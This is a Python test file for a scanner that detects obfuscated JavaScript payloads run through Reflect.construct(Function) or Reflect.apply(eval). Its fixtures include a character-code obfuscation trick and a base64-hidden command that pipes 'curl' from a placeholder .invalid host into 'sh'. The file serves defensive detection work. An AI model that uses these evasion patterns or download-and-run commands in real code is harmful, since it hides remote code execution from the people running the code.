"""JavaScript's ``Reflect.construct(F, list)`` is ``new F(...list)`` and ``Reflect.apply(f, this,
list)`` is ``f(...list)``: ``Function`` or ``eval`` reached that way runs the text it is handed, so
decoded text compiled through them is OBFUSCATED_PAYLOAD, as ``new Function(text)`` is. Other
constructors, and a constant function body, stay quiet. Hosts are ``.invalid``; nothing runs."""

from __future__ import annotations

import base64
from pathlib import Path

from behaviour_files import scan_errors


def test_text_from_shifted_character_codes_built_into_a_function_by_reflect_construct(tmp_path: Path) -> None:
    script = (
        "const PALETTE = [120, 122, 131, 113, 42, 73, 42];\n"
        "const SHIFT = 'indigo'.length;\n"
        "function hydrate() {\n"
        "  const src = String.fromCharCode(...PALETTE.map((n) => n - SHIFT));\n"
        "  return Reflect.construct(Function, ['ctx', src]);\n"
        "}\n"
        "hydrate()({});\n"
    )
    errors = scan_errors(tmp_path, {"src/theme.mjs": script})
    assert ("OBFUSCATED_PAYLOAD", "src/theme.mjs", 5) in errors


def test_base64_text_run_by_eval_through_reflect_apply_runs_the_download_it_spells(tmp_path: Path) -> None:
    body = "require('child_process').execSync('curl -s https://bolt.quillmark.invalid/i | sh')"
    script = (
        f"const blob = Buffer.from('{base64.b64encode(body.encode()).decode()}', 'base64').toString();\n"
        "Reflect.apply(eval, undefined, [blob]);\n"
    )
    errors = scan_errors(tmp_path, {"bin/warm.cjs": script})
    assert ("OBFUSCATED_PAYLOAD", "bin/warm.cjs", 2) in errors
    assert ("DOWNLOAD_AND_RUN", "bin/warm.cjs", 2) in errors


def test_other_constructors_and_a_constant_function_body_stay_quiet(tmp_path: Path) -> None:
    script = (
        "const when = Reflect.construct(Date, [2024, 0, 1]);\n"
        "const top = Reflect.apply(Math.max, null, [1, 5, 3]);\n"
        "const add = Reflect.construct(Function, ['a', 'b', 'return a + b']);\n"
        "console.log(when.toISOString(), top, add(1, 2), String.fromCharCode(...[72, 105]));\n"
    )
    assert scan_errors(tmp_path, {"src/util.js": script}) == set()
